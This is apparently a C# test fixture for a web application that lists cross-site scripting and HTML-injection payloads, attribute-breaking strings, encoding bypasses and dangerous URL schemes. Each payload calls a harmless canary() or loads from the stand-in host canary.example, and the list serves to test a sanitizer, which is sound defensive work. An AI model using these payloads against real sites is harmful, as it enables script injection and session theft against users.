namespace Digest.Web.Tests.Stories;

/// <summary>Ways to bring markup or script into a page. Each calls <c>canary()</c> or asks canary.example for something, where it succeeds.</summary>
internal static class Injections
{
    /// <summary>Another host than any that a message names.</summary>
    public const string Host = "canary.example";

    private const string Call = "canary()";

    /// <summary>Markup that runs or loads something as it stands.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        $"<script>{Call}</script>", $"<SCRIPT>{Call}</SCRIPT >", $"<script/x>{Call}</script>", $"<script type=module>{Call}</script>", $"<script src=//{Host}/x.js></script>", $"<scr<script>ipt>{Call}</scr</script>ipt>",
        $"<script>{Call}", $"<img src=x onerror={Call}>", $"<img/src=x/onerror={Call}>", $"<IMG SRC=x OnErRoR=\"{Call}\">", $"<img src='x' onerror\n=\n{Call}>", $"<img src=x onerror={Call}//", $"<image src=x onerror={Call}>",
        $"<img src=//{Host}/x.png>", $"<img srcset='//{Host}/x 1x'>", $"<picture><source srcset=//{Host}/x><img src=x></picture>", $"<svg onload={Call}>", $"<svg/onload={Call}>", $"<svg><script>{Call}</script></svg>", $"<svg><script xlink:href=//{Host}/x.js />",
        $"<svg><animate onbegin={Call} attributeName=x dur=1s>", $"<svg><set onbegin={Call} attributeName=x>", $"<svg><a xlink:href=javascript:{Call}><text y=9>x</text></a></svg>", $"<svg><style><img src=x onerror={Call}></style></svg>", $"<svg><foreignObject><img src=x onerror={Call}></foreignObject></svg>",
        $"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={Call}/>#x'/></svg>", $"<math><mtext><table><mglyph><style><img src=x onerror={Call}></style></table></mtext></math>", $"<math href=javascript:{Call}>x</math>",
        $"<body onload={Call}>", $"<html onmouseover={Call}>", $"<iframe src=javascript:parent.{Call}></iframe>", $"<iframe srcdoc=\"<script>parent.{Call}</script>\"></iframe>", $"<iframe src=//{Host}/></iframe>", $"<object data=javascript:{Call}></object>", $"<object data=//{Host}/></object>",
        $"<embed src=//{Host}/x>", $"<applet code=x onerror={Call}>", $"<a href=javascript:{Call}>x</a>", $"<a href=\"java&#9;script:{Call}\">x</a>", $"<a href='&#14; javascript:{Call}'>x</a>", $"<a onmouseover={Call}>x</a>", $"<a href=x ping=//{Host}/>x</a>",
        $"<form action=javascript:{Call}><input type=submit autofocus></form>", $"<form action=//{Host}/><button>x</button></form>", $"<input autofocus onfocus={Call}>", $"<input type=image src=x onerror={Call}>", $"<button formaction=javascript:{Call}>x</button>", $"<select autofocus onfocus={Call}>", $"<keygen autofocus onfocus={Call}>",
        $"<details open ontoggle={Call}>", $"<dialog open onclose={Call}>", $"<video src=x onerror={Call}></video>", $"<video><source onerror={Call}></video>", $"<video poster=//{Host}/x></video>", $"<audio src=x onerror={Call}>", $"<marquee onstart={Call}>x</marquee>", $"<track src=//{Host}/x default>",
        $"<meta http-equiv=refresh content='0;url=//{Host}/'>", $"<meta http-equiv=refresh content='0;url=javascript:{Call}'>", $"<meta charset=utf-7>", $"<base href=//{Host}/>", $"<link rel=stylesheet href=//{Host}/x.css>", $"<link rel=prefetch href=//{Host}/x>", $"<style>@import '//{Host}/x.css';</style>",
        $"<style>*{{background:url(//{Host}/x)}}</style>", $"<style onload={Call}></style>", $"<div style=\"background:url(//{Host}/x)\">x</div>", $"<div style='width:expression({Call})'>x</div>", $"<div style='animation:x' onanimationstart={Call}>x</div>", $"<table background=//{Host}/x><tr><td>x</table>",
        $"<template><script>{Call}</script></template>", $"<div><template shadowrootmode=open><script>{Call}</script></template></div>", $"<xmp><script>{Call}</script></xmp>", $"<noscript><p title=\"</noscript><img src=x onerror={Call}>\">", $"<p onpointerrawupdate={Call} tabindex=1 autofocus onfocus={Call}>x</p>", $"<frameset onload={Call}>", $"<plaintext><script>{Call}</script>",
        $"<!--><script>{Call}</script>-->", $"<!--><img src=x onerror={Call}>", $"<!-- --!><script>{Call}</script>", $"<![CDATA[<script>{Call}</script>]]>", $"<!DOCTYPE x [<!ENTITY y '<script>{Call}</script>'>]>&y;", $"<?xml-stylesheet href=\"javascript:{Call}\"?>", $"<? <img src=x onerror={Call}> ?>", $"<%<script>{Call}</script>%>",
    ];

    /// <summary>What would leave the element or the attribute in which a page puts it.</summary>
    public static IReadOnlyList<string> Breakers { get; } =
    [
        .. from quote in new[] { "\"", "'", "`", "&quot;", "&#34;", "&#x27;", "\\\"", "\u2028\"" }
           from after in new[] { $" onmouseover={Call} x=", $"><script>{Call}</script>", $"/><svg onload={Call}>", $" style=background:url(//{Host}/x) x=" }
           select quote + after + quote,
        .. from element in new[] { "title", "textarea", "style", "script", "a", "p", "td", "h2", "html" } select $"</{element}><script>{Call}</script>",
        $"--><script>{Call}</script>", $"]]><script>{Call}</script>", $"*/<script>{Call}</script>", $"@{{{Call};}}", $"@Html.Raw(\"<script>{Call}</script>\")", $"{{{{constructor.constructor('{Call}')()}}}}", $"${{{Call}}}", $"<%= {Call} %>",
        $"%3Cscript%3E{Call}%3C/script%3E", $"\\u003cscript\\u003e{Call}\\u003c/script\\u003e", $"\\x3cscript\\x3e{Call}\\x3c/script\\x3e", $"+ADw-script+AD4-{Call}+ADw-/script+AD4-", $"＜script＞{Call}＜/script＞", $"<scr\0ipt>{Call}</scr\0ipt>", $"<\0script>{Call}</script>", $"<img src=x on\u000Cerror={Call}>",
        $"\u202E<script>{Call}</script>", $"<\uFEFFscript>{Call}</script>", $"<ſcript>{Call}</script>", $"\uFFFD<script>{Call}</script>", $"<script\u00A0>{Call}</script>",
    ];

    /// <summary>Addresses that are none of the web's, or more than an address.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        $"javascript:{Call}", $"JaVaScRiPt:{Call}", $" javascript:{Call}", $"\u0001javascript:{Call}", $"java\tscript:{Call}", $"java\nscript:{Call}", $"javascript&colon;{Call}", $"javascript&#58;{Call}", $"&#106;avascript:{Call}", $"javascript://t.example/%0A{Call}", $"view-source:javascript:{Call}",
        $"data:text/html,<script>{Call}</script>", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", $"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Call}'/>", "vbscript:canary()", "blob:https://t.example/1", "file:///etc/hostname", "filesystem:https://t.example/x", "about:blank", "intent://t.example/#Intent;end",
        $"https://t.example/\" onmouseover=\"{Call}", $"https://t.example/'><script>{Call}</script>", $"https://t.example/\"><img src=x onerror={Call}>", $"https://t.example/`onload={Call}", $"https://t.example/?x=<script>{Call}</script>", $"https://t.example/#\"><svg onload={Call}>", "https://t.example/\u202Egpj.exe", "https://t.example/\0x",
        $"https://\"onload={Call}.t.example/", $"http:javascript:{Call}", $"https:javascript:{Call}", $"///javascript:{Call}", $"\\\\t.example\\x", $"https://t.example\\@{Host}/",
    ];
}
